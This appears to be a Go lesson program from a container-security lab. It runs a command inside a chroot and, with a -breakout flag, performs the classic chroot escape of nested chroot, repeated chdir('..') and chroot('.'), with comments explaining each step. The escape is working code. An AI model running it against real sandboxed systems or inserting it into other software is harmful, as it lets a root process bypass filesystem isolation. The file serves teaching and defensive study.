//go:build !exercise

// Command lesson01 runs a command inside a chroot, and shows how a root
// process walks back out of it.
//
//	lesson01 [-rootfs DIR] [-breakout] -- CMD [ARGS...]
//
// Without -breakout, CMD sees only DIR. With -breakout, lesson01 first
// escapes the chroot the way a compromised root process would, and CMD sees
// the host's files again. See README.md.
package main

import (
	"errors"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"syscall"

	"golang.org/x/sys/unix"
)

func main() { os.Exit(run()) }

func run() int {
	flags := flag.NewFlagSet("lesson01", flag.ContinueOnError)
	rootfs := flags.String("rootfs", "/rootfs", "directory to use as the new root (the lab has one at /rootfs)")
	breakout := flags.Bool("breakout", false, "escape the chroot before running CMD")
	flags.Usage = func() {
		fmt.Fprintln(flags.Output(), "usage: lesson01 [-rootfs DIR] [-breakout] -- CMD [ARGS...]")
		flags.PrintDefaults()
	}
	if err := flags.Parse(os.Args[1:]); err != nil {
		if err == flag.ErrHelp {
			return 0
		}
		return 2
	}
	if flags.NArg() == 0 {
		flags.Usage()
		fmt.Fprintln(os.Stderr, "lesson01: no command to run: try lesson01 -rootfs", *rootfs, "-- /bin/sh")
		return 2
	}
	// A missing root would only show as ENOENT from chroot(2): say what to do.
	if fi, err := os.Stat(*rootfs); err != nil || !fi.IsDir() {
		fmt.Fprintf(os.Stderr, "lesson01: no root filesystem at %s: make one with: go run ./scripts/mkrootfs /tmp/rootfs (in the lab: /rootfs)\n", *rootfs)
		return 2
	}
	if err := chrootAndExec(*rootfs, *breakout, flags.Args()); err != nil {
		fmt.Fprintln(os.Stderr, "lesson01:", err)
		return 1
	}
	return 0 // not reached: exec replaced us
}

func chrootAndExec(rootfs string, breakout bool, argv []string) error {
	rootfs, err := filepath.Abs(rootfs)
	if err != nil {
		return err
	}
	if err := enterChroot(rootfs); err != nil {
		return err
	}
	if breakout {
		if err := escape(rootfs); err != nil {
			return err
		}
	}
	// After chroot, PATH and every absolute path resolve inside the new root:
	// /bin/sh is the rootfs's busybox, not the host's shell.
	path, err := exec.LookPath(argv[0])
	if err != nil {
		return err
	}
	// execve keeps the root directory: the new program inherits the jail.
	return syscall.Exec(path, argv, os.Environ())
}

// enterChroot is chroot(8): change the root, then move into it. The chdir
// matters: chroot(2) leaves the working directory where it was, outside.
func enterChroot(dir string) error {
	if err := unix.Chroot(dir); err != nil {
		return &os.PathError{Op: "chroot", Path: dir, Err: err}
	}
	if err := unix.Chdir("/"); err != nil {
		return &os.PathError{Op: "chdir", Path: "/", Err: err}
	}
	return nil
}

// escape is the classic chroot breakout. The kernel stops ".." only at the
// process's root directory. So:
//
//  1. chroot into a subdirectory, without chdir: the root moves down, the
//     working directory stays above it, outside the new root;
//  2. chdir("..") over and over: the walk never passes through our root,
//     so nothing stops it before the host's real "/";
//  3. chroot("."): the host's "/" is our root again.
//
// It needs only CAP_SYS_CHROOT, which every root process has.
func escape(rootfs string) error {
	const dir = "/.breakout"
	if err := os.Mkdir(dir, 0o700); err != nil && !errors.Is(err, os.ErrExist) {
		return err
	}
	if err := unix.Chroot(dir); err != nil {
		return &os.PathError{Op: "chroot", Path: dir, Err: err}
	}
	for i := 0; i < 256; i++ { // deeper than any real path
		if err := unix.Chdir(".."); err != nil {
			return &os.PathError{Op: "chdir", Path: "..", Err: err}
		}
	}
	if err := unix.Chroot("."); err != nil {
		return &os.PathError{Op: "chroot", Path: ".", Err: err}
	}
	// We are out: the rootfs is a directory of the host again. Tidy up.
	return os.Remove(filepath.Join(rootfs, dir))
}
